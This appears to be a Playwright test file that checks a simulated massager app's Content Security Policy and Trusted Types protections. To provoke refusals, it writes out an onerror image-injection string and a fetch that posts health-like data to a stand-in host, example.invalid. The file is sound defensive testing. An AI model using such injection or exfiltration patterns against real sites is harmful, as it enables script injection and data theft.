import { answerScreening, passTime, setSlider, startSession } from './app.js';
import { expect, test } from './fixtures/ble.js';

/**
 * The Content Security Policy is in force on the app as served (vite preview, as `npm start`
 * serves it): no inline script, no eval, no HTML from strings (Trusted Types), no request to
 * another origin. Every other browser test also fails on any refusal or off-origin request
 * (fixtures/guard.ts); the last tests here prove that guard fails a test when it should.
 */

interface Attempts {
  innerHTML: string;
  insertAdjacentHTML: string;
  eval: string;
  newFunction: string;
  inlineScriptRan: boolean;
  offOriginFetch: string;
  injectedImage: boolean;
  /** securitypolicyviolation events the page raised: "directive blockedURI". */
  violations: string[];
}

test.describe('the Content Security Policy', () => {
  test('the built app is served with a policy that forbids inline script and eval, requires Trusted Types, and allows only its own origin', async ({
    page,
  }) => {
    const response = await page.goto('/');
    const policies = [
      response?.headers()['content-security-policy'] ?? '',
      (await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content')) ?? '',
    ];
    for (const policy of policies) {
      expect(policy).toContain("script-src 'self'");
      expect(policy).toContain("default-src 'self'");
      expect(policy).toContain("connect-src 'self'");
      expect(policy).toContain("object-src 'none'");
      expect(policy).toContain("require-trusted-types-for 'script'");
      expect(policy).toContain('trusted-types lit-html');
      expect(policy).not.toMatch(/unsafe-inline|unsafe-eval|\*/);
    }
    // The header carries what a meta tag cannot.
    expect(policies[0]).toContain("frame-ancestors 'none'");
  });

  test('HTML from a string, eval, new Function, an inline script and a fetch to another origin are each refused, and reported', async ({
    page,
    pageGuard,
  }) => {
    // Provoked on purpose: kept by the guard in `allowed` instead of failing this test.
    pageGuard.allow(/./);
    await page.goto('/');
    await answerScreening(page);

    // DevTools' own evaluation is exempt from the eval check: the attempts run in the page's own
    // task, from a real click on a probe button, as the app's code or an injected script would.
    await page.evaluate(() => {
      const violations: string[] = [];
      document.addEventListener('securitypolicyviolation', (e) => violations.push(`${e.effectiveDirective} ${e.blockedURI}`), true);
      const attempt = (run: () => unknown): string => {
        try {
          return `allowed: ${String(run())}`;
        } catch (error: unknown) {
          return error instanceof Error ? error.name : String(error);
        }
      };
      const probe = document.createElement('button');
      probe.id = 'csp-probe';
      probe.textContent = 'probe';
      probe.addEventListener('click', () => {
        const target = document.createElement('div');
        document.body.append(target);
        const html = '<img src="x" onerror="window.__injected = true">';
        const outcome: Omit<Attempts, 'offOriginFetch'> = {
          innerHTML: attempt(() => (target.innerHTML = html)),
          insertAdjacentHTML: attempt(() => target.insertAdjacentHTML('beforeend', html)),
          eval: attempt(() => eval('1 + 1')),
          // eslint-disable-next-line @typescript-eslint/no-implied-eval -- the point of this test
          newFunction: attempt(() => (new Function('return 2') as () => unknown)()),
          inlineScriptRan: false,
          injectedImage: false,
          violations,
        };
        const script = document.createElement('script');
        script.appendChild(document.createTextNode('window.__inlineRan = true'));
        document.body.append(script);
        outcome.inlineScriptRan = (window as { __inlineRan?: boolean }).__inlineRan === true;
        outcome.injectedImage = target.querySelector('img') !== null || (window as { __injected?: boolean }).__injected === true;
        target.remove();
        script.remove();
        void fetch('http://example.invalid/beacon', { method: 'POST', body: 'pain 7' })
          .then(
            () => 'allowed',
            (error: unknown) => (error instanceof Error ? error.name : String(error)),
          )
          .then((offOriginFetch) => {
            (window as { __attempts?: Attempts }).__attempts = { ...outcome, offOriginFetch };
          });
      });
      document.body.append(probe);
    });
    await page.locator('#csp-probe').click();
    await expect.poll(() => page.evaluate(() => (window as { __attempts?: Attempts }).__attempts !== undefined)).toBe(true);
    // Violation events are queued: wait for the last kind to arrive.
    await expect
      .poll(() =>
        page.evaluate(() => (window as { __attempts?: Attempts }).__attempts?.violations.some((v) => v.startsWith('connect-src'))),
      )
      .toBe(true);
    const attempts = await page.evaluate(() => (window as { __attempts?: Attempts }).__attempts);

    expect(attempts).toMatchObject({
      innerHTML: 'TypeError',
      insertAdjacentHTML: 'TypeError',
      eval: expect.stringMatching(/^(EvalError|TypeError)$/),
      newFunction: expect.stringMatching(/^(EvalError|TypeError)$/),
      inlineScriptRan: false,
      injectedImage: false,
      offOriginFetch: 'TypeError',
    });
    // The browser reported every refusal: the five string-to-code attempts under Trusted Types
    // (eval and new Function are stopped there before the eval check), the fetch under connect-src.
    // The header and the meta tag are two policies, so each refusal may be reported twice.
    const reported = (directive: string) => (attempts?.violations ?? []).filter((v) => v.startsWith(`${directive} `)).length;
    expect(reported('require-trusted-types-for')).toBeGreaterThanOrEqual(5);
    expect(reported('connect-src')).toBeGreaterThanOrEqual(1);
    // And the shared guard saw them, so any other test doing the same would fail.
    await expect.poll(() => pageGuard.allowed.length).toBeGreaterThanOrEqual(attempts?.violations.length ?? 1);
    expect(pageGuard.offOrigin).toEqual([]);
  });

  test('normal use raises no CSP or Trusted Types refusal and sends nothing off the origin', async ({ page, pageGuard }) => {
    await page.goto('/');
    await answerScreening(page);
    await page.getByRole('button', { name: 'Connect the simulated massager' }).click();
    await expect(page.getByTestId('connection-state')).toHaveText('Easeback Sim connected (simulated)');
    await page.getByRole('radio', { name: 'Everyday relief' }).check();
    await startSession(page);
    await passTime(page, 31_000);
    await setSlider(page, 'Vibration', 4);
    await setSlider(page, 'Heat', 2);
    const guidance = page.getByRole('complementary', { name: 'Guidance' });
    await guidance.getByText(/^All guidance/).click();
    await guidance.getByRole('navigation', { name: 'All guidance' }).getByRole('button', { name: 'Kneading' }).click();
    await expect(guidance.getByRole('heading', { level: 3 })).toHaveText('Kneading');
    await page.getByRole('button', { name: 'STOP' }).click();
    await expect(page.getByTestId('session-end')).toBeVisible();
    await page.getByRole('navigation', { name: 'Sections' }).getByRole('button', { name: 'History' }).click();
    await expect(page.getByTestId('history-row')).toHaveCount(1);
    for (const name of ['Export CSV', 'Export JSON']) {
      const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name }).click()]);
      expect(await download.failure()).toBeNull();
    }
    await page.getByRole('navigation', { name: 'Sections' }).getByRole('button', { name: 'Safety questions' }).click();

    expect(pageGuard.violations).toEqual([]);
    expect(pageGuard.offOrigin).toEqual([]);
    expect(pageGuard.pageErrors).toEqual([]);
  });
});

test.describe('the shared guard (fixtures/guard.ts) fails a test (expected failures: listed with ✘, counted as passed)', () => {
  // Each of these must fail, and only through the guard's check at the end of the test.
  test.fail(true, 'the guard must fail this test');

  test('whose page sends a request to another origin', async ({ page }) => {
    // A page of the app's origin without the app's policy, so the request really goes out.
    await page.route('**/__no-policy', (route) => route.fulfill({ contentType: 'text/html', body: '<!doctype html><title>-</title>' }));
    await page.goto('/__no-policy');
    await page.evaluate(() => fetch('http://127.0.0.1:9/report').catch(() => undefined));
  });

  test('whose page throws an uncaught error', async ({ page }) => {
    await page.goto('/');
    await page.evaluate(() => {
      document.body.addEventListener('click', () => {
        throw new Error('an error nobody caught');
      });
    });
    await page.locator('body').click();
  });

  test('whose page meets a Trusted Types refusal', async ({ page }) => {
    await page.goto('/');
    await page.evaluate(() => {
      try {
        document.body.insertAdjacentHTML('beforeend', '<b>from a string</b>');
      } catch {
        // refused; the guard must still see it
      }
    });
    await page.waitForTimeout(200);
  });
});
